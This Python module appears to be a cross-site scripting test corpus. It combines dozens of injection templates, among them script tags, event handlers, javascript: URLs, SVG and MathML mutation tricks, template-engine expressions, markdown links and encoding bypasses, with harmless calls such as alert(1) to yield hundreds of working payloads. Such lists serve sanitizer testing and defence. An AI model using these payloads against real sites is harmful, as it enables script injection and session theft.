"""Some seven hundred ways to smuggle a program into a page: families of it × places it may land in.

Each calls ``alert``, asks for a program, or sends something away, so that a browser would show it.
"""

from collections.abc import Iterator

# What runs, once it stands where programs stand.
CALLS = ("alert(1)", "confirm`1`", "top['al'+'ert'](1)", "print()")
# Programs that need no way out: they stand where text stands.
ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script src=data:text/javascript,{}></script>",
    "<script/x>{}</script/x>",
    "<script\n>{}</script\n>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script type=module>{}</script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<img/src=x/onerror={}>",
    "<img src=x:x\tonerror\n=\n{}>",
    "<IMG SRC=x OnErRoR={}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{}><text y=9>a</text></a>",
    "<svg><use href=data:image/svg+xml,<svg id=x onload={}>#x>",
    "<svg><style><img src=x onerror={}></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<math><maction actiontype=statusline xlink:href=javascript:{}>a</maction></math>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<details open ontoggle={}>",
    "<video src=x onerror={}></video>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<marquee onstart={}>a</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<link rel=stylesheet href=data:text/css,*{{x:1}} onload={}>",
    "<link rel=import href=data:text/html,<script>{}</script>>",
    "<form action=javascript:{}><button autofocus>a</button></form>",
    "<button formaction=javascript:{} autofocus>a</button>",
    "<a href=javascript:{}>a</a>",
    "<a href='java\tscript:{}'>a</a>",
    "<a href=&#106;avascript:{}>a</a>",
    "<a href=data:text/html,<script>{}</script>>a</a>",
    "<div onpointerrawupdate={} style=position:fixed;inset:0>a</div>",
    "<div style=animation:a onanimationstart={}></div>",
    "<style>@keyframes a{{}}</style><b style=animation-name:a onanimationend={}>a</b>",
    "<style>@import 'data:text/css,a{{}}';</style><img src=x onerror={}>",
    '<div style="background:url(javascript:{})">a</div>',
    "<table background=javascript:{}><td>a</table>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<p id=x onfocus={} tabindex=1 autofocus>a</p>",
    "<div hx-get=/ hx-trigger=load hx-on:htmx:after-request={}>a</div>",
    "<div hx-on::load={} data-hx-on:click={}>a</div>",
    "<dialog open onclose={}><form method=dialog><button autofocus>a</button></form></dialog>",
    "<custom-element onfocusin={} tabindex=0 autofocus>a</custom-element>",
)
# Ways out of where text is put: attributes, elements, comments, programs, styles.
WAYS_OUT = (
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</select></option>",
    '"/><!--',
    '\\">',
    "&quot;>",
    "%22%3E",
    "\u201d>",
)
ATTRIBUTES = (
    '" onmouseover="{}" x="',
    "' onmouseover='{}' x='",
    '" autofocus onfocus="{}" x="',
    "' autofocus onfocus='{}' x='",
    " autofocus onfocus={} x=",
    '" style="animation-name:x" onanimationstart="{}" x="',
    '" data-key="x" hx-on:load="{}" x="',
    '" href="javascript:{}" x="',
)
SCRIPTS = (
    "';{};//",
    '";{};//',
    "`;{};//",
    "${{{}}}",
    "\\';{};//",
    "</script><script>{}</script>",
    "\u2028{}\u2029",
    "*/{}/*",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% debug %}}{{{{ '{}'|safe }}}}",
    "#{{{}}}",
    "<%= {} %>",
    "[[${{{}}}]]",
    "{{{{{}}}}}",
)
MARKDOWN = (
    "[a](javascript:{})",
    "[a](JaVaScRiPt:{})",
    "[a](javascript&colon;{})",
    "[a](&#x6A;avascript:{})",
    "[a](  javascript:{})",
    "[a](\tjava\tscript:{})",
    "[a](<javascript:{}>)",
    "[a](vbscript:{})",
    "[a](data:text/html,<script>{}</script>)",
    '[a](http://x.example/"onmouseover="{})',
    "[a](/ \"title' onmouseover='{}\")",
    '![a](x" onerror="{})',
    "![a](javascript:{})",
    '![" onerror="{}](x)',
    "<javascript:{}>",
    "<http://x.example/onmouseover={}>",
    "[a]: javascript:{}\n[a]",
    "```\n</code><img src=x onerror={}>\n```",
    "`</code><script>{}</script>`",
    "> <img src=x onerror={}>",
    "|a|\n|-|\n|<img src=x onerror={}>|",
    "# <svg onload={}>",
    "<!-- --!><img src=x onerror={}>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={}&amp;gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3C;svg onload={}&#x3E;",
    "\\<script>{}\\</script>",
    "<script\x0c>{}</script>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<\u0000script>{}</script>".replace("\0", "\ufffd"),
    "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\x1b$B<script>{}</script>",
    "\u202e>tpircs/<{}>tpircs<",
    "<a\u00a0href=javascript:{}>a</a>",
    "<\u017fcript>{}</\u017fcript>",
    "<\u0131mg src=x onerror={}>",
)


def payloads() -> Iterator[str]:
    """Yield every payload."""
    for family in (ELEMENTS, ATTRIBUTES, SCRIPTS, MARKDOWN):
        for pattern in family:
            for call in CALLS:
                yield (
                    pattern.replace("{{", "\1")
                    .replace("}}", "\2")
                    .replace("{}", call)
                    .replace("\1", "{")
                    .replace("\2", "}")
                )
    for number, way in enumerate(WAYS_OUT):
        for pattern in ELEMENTS[number % 4 :: 4]:
            yield way + pattern.replace("{{", "{").replace("}}", "}").replace("{}", "alert(1)")
